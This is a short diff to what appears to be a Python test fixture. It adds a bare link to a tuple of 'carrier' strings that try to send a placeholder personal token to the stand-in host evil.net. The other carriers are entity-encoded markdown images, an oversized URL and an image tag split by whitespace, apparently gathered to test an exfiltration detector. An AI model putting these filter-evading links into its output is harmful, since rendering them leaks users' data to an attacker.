@@ -94,6 +94,7 @@ CARRIERS = (
     "https://user@evil.net:8080/" + "a" * 3000 + "PERSON_K3F7Q2",
     "![x](&#104;ttps&#58;&#47;&#x2f;evil.net&#47;?q=PERSON_K3F7Q2)",
     "![x](https&colon;&sol;&sol;evil.net&sol;?q=PERSON_K3F7Q2)",
+    "see www.evil.net/?q=PERSON_K3F7Q2",
     '<img src="ht\ntps:/\t/evil.net/?q=PERSON_K3F7Q2">',
 )
 
